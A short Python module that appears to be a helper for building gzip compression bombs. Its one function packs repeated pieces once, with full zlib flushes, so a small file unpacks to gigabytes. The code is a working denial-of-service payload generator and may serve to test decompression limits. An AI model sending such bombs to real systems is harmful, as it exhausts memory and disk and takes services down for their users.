"""Compression bombs: small files that unpack to gigabytes, made without packing gigabytes."""

import zlib
from collections.abc import Iterable
from itertools import groupby


def gzip_bomb(pieces: Iterable[bytes]) -> bytes:
    """A gzip file without its end, which unpacks to these pieces.

    Pieces that are the same object, one after the other, are packed once: after a full flush, packed data does not
    refer to what was before it, and may be repeated.
    """
    packer = zlib.compressobj(9, wbits=31)
    found = packer.flush(zlib.Z_FULL_FLUSH)
    for _, same in groupby(pieces, key=id):
        [piece, *others] = same
        packed = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
        found += packed * (1 + len(others))
    return found
